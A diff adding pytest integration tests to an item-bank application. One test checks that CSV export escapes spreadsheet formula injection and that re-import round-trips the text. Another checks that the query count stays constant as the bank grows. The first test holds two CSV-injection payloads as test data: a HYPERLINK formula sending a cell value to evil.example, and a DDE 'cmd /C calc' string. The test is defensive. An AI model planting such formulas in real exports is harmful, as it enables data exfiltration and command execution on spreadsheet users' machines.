@@ -2,9 +2,13 @@
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 
 from tests.integration.mastery.world import build_world, seed_graph
+from tests.sql_statements import SqlStatements
 
 
 @pytest.fixture
@@ -192,3 +196,63 @@ def test_activity_mappings(client, world):
     assert [m["activity_id"] for m in listed] == ["https://h5p.example/quiz/1"]
     assert client.delete(f"{url}/{listed[0]['id']}", headers=world.student).status_code == 403
     assert client.delete(f"{url}/{listed[0]['id']}", headers=world.teacher).status_code == 204
+
+
+def test_the_csv_export_hands_a_spreadsheet_no_formula_and_reads_back_whole(client, world):
+    attack = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    item = {
+        **MC,
+        "key": "-neg",
+        "prompt": attack,
+        "explanation": "@SUM(1+1)*cmd|' /C calc'!A0",
+    }
+    assert client.post(items_url(world), json=item, headers=world.teacher).status_code == 201
+    exported = client.get(items_url(world, "/export?format=csv"), headers=world.teacher)
+    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert f"'{attack}" in cells
+    # Edited in a spreadsheet and imported again: the same text, not the marked one.
+    client.delete(items_url(world, f"/{_id_of(client, world, '-neg')}"), headers=world.teacher)
+    result = client.post(
+        items_url(world, "/import"),
+        json={"format": "csv", "content": exported.get_data(as_text=True)},
+        headers=world.teacher,
+    )
+    assert result.get_json() == {"created": 1, "updated": 0}
+    restored = client.get(
+        items_url(world, f"/{_id_of(client, world, '-neg')}"), headers=world.teacher
+    ).get_json()
+    assert (restored["prompt"], restored["explanation"]) == (attack, item["explanation"])
+
+
+def _id_of(client, world, key: str) -> int:
+    listed = client.get(items_url(world), headers=world.teacher).get_json()
+    return next(i["id"] for i in listed if i["key"] == key)
+
+
+def test_listing_the_bank_costs_the_same_for_a_bigger_bank(app, client, world):
+    def statements_to_list() -> tuple[int, int]:
+        with SqlStatements(app) as seen:
+            response = client.get(items_url(world), headers=world.teacher)
+        assert response.status_code == 200
+        return seen.count, len(response.get_json())
+
+    def add(count: int, start: int) -> None:
+        document = {
+            "items": [
+                {**SHORT, "key": f"bulk-{n}", "concepts": ["add", "geo"]}
+                for n in range(start, start + count)
+            ]
+        }
+        response = client.post(
+            items_url(world, "/import"), json={"document": document}, headers=world.teacher
+        )
+        assert response.status_code == 200, response.get_json()
+
+    add(3, 0)
+    small, listed_small = statements_to_list()
+    add(30, 3)
+    big, listed_big = statements_to_list()
+    assert (listed_small, listed_big) == (3, 33)
+    assert big == small
